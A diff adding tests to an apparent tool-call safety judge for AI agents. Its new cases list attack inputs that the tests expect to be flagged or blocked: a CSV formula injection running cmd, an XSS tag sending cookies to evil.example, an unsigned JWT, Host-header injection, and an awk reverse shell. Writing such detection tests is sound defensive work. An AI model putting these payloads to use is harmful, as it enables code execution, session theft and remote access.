@@ -245,3 +245,27 @@ describe('a shell or a download-and-run written into a file that runs by itself'
     expect(judge('write_file', { path: '/home/dana/.bashrc', content: 'export PATH=$HOME/.local/bin:$PATH' }).decision).toBe('allow');
   });
 });
+
+describe('eleventh-round payload families', () => {
+  it.each([
+    ['write_file', { path: 'exports/report.csv', content: "name,total\n=cmd|' /C calc'!A0,5" }],
+    ['send_email', { to: 'victim@example.com', body: '<img src=x onerror="this.src=\'https://evil.example/?c=\'+document.cookie">' }],
+    ['http_request', { url: 'https://api.example.com/me', headers: { Authorization: 'Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.' } }],
+    ['http_request', { url: 'https://shop.example.com/reset', headers: { Host: 'evil.example.net' } }],
+    ['http_request', { url: 'https://shop.example.com/reset', headers: { 'X-Forwarded-Host': 'evil.example.net' } }],
+  ])('flags %s %j', (tool, args) => expect(judge(tool, args).decision).not.toBe('allow'));
+
+  it('blocks an awk reverse shell over /inet/tcp', () => {
+    const command = 'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { s |& getline c; print c |& s }}\' /dev/null';
+    expect(judge('shell', { command }).decision).toBe('block');
+  });
+
+  it.each([
+    ['write_file', { path: 'report.csv', content: 'item,delta\nwidgets,-5\ngadgets,+12\n=SUM(B2:B3),' }],
+    ['write_file', { path: 'src/tracker.js', content: "window.addEventListener('load', () => navigator.sendBeacon('/analytics', location.pathname));" }],
+    ['write_file', { path: 'test/jwt.test.ts', content: "const unsigned = 'eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.';" }],
+    ['http_request', { url: 'https://api.example.com:8443/v1/items', headers: { Host: 'api.example.com:8443' } }],
+    ['http_request', { url: 'https://api.example.com/me', headers: { Authorization: 'Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U' } }],
+    ['shell', { command: "awk -F, '{print $1}' data.csv | sort | uniq -c" }],
+  ])('allows %s %j', (tool, args) => expect(judge(tool, args).decision).toBe('allow'));
+});
